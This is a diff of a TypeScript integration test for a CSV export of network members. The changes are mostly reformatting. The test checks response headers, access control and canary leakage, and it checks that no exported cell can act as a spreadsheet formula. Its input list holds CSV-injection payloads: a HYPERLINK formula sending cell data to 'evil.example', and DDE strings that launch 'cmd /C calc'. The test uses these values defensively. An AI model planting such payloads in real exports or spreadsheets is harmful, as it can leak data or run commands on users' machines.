@@ -34,8 +34,8 @@ describe('network members CSV export (HTTP, real database)', () => {
     const hostile = [
       '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
       '+33 4 77 00 00 00',
-      '-2+3+cmd|\' /C calc\'!A0',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '\tTabulation',
       '\rRetour chariot',
       '＝SOMME(1)',
@@ -53,13 +53,26 @@ describe('network members CSV export (HTTP, real database)', () => {
     const res = await download(staff.client, `/api/v1/networks/${net.id}/members.csv`);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="membres-club-export-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''membres-club-export-\d{4}-\d{2}-\d{2}\.csv$/);
+    expect(res.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="membres-club-export-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''membres-club-export-\d{4}-\d{2}-\d{2}\.csv$/,
+    );
     expect(res.headers.get('cache-control')).toBe('private, no-store');
     expect(res.headers.get('x-content-type-options')).toBe('nosniff');
     expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
 
     const [header, ...rows] = rowsOf(res.bytes);
-    expect(header).toEqual(['Entreprise', 'Raison sociale', 'SIRET', 'Code NAF', 'Commune', 'Code commune', 'Rôle', 'Statut', 'Membre depuis', 'Personnes']);
+    expect(header).toEqual([
+      'Entreprise',
+      'Raison sociale',
+      'SIRET',
+      'Code NAF',
+      'Commune',
+      'Code commune',
+      'Rôle',
+      'Statut',
+      'Membre depuis',
+      'Personnes',
+    ]);
     expect(rows).toHaveLength(3 + hostile.length);
     // No cell starts with a character a spreadsheet would read as a formula.
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
@@ -122,7 +135,10 @@ describe('network members CSV export (HTTP, real database)', () => {
       ['animator elsewhere', animatorElsewhere.client, [403, 404]],
     ];
     // Members without the right to export.
-    for (const [who, client, statuses] of [['moderator', moderator.client, [403, 404]], ['member', insider.client, [403, 403]]] as const) {
+    for (const [who, client, statuses] of [
+      ['moderator', moderator.client, [403, 404]],
+      ['member', insider.client, [403, 403]],
+    ] as const) {
       const a = await download(client, `/api/v1/networks/${net.id}/members.csv`);
       const b = await download(client, `/api/v1/networks/${secret.id}/members.csv`);
       expect([who, a.status, b.status]).toEqual([who, ...statuses]);
@@ -132,7 +148,12 @@ describe('network members CSV export (HTTP, real database)', () => {
       const b = await download(client, `/api/v1/networks/${secret.id}/members.csv`);
       expect([who, a.status, b.status]).toEqual([who, privateStatus, secretStatus]);
       for (const res of [a, b]) expect([who, res.bytes.toString()]).not.toEqual([who, expect.stringContaining(CANARY)]);
-      for (const path of [`/api/v1/networks/${net.id}/members`, `/api/v1/networks/${secret.id}/members`, `/api/v1/networks/${net.id}`, `/api/v1/networks?pageSize=100`]) {
+      for (const path of [
+        `/api/v1/networks/${net.id}/members`,
+        `/api/v1/networks/${secret.id}/members`,
+        `/api/v1/networks/${net.id}`,
+        `/api/v1/networks?pageSize=100`,
+      ]) {
         const res = await client.get(path);
         expect([who, path, JSON.stringify(res.body)]).not.toEqual([who, path, expect.stringContaining(CANARY)]);
       }
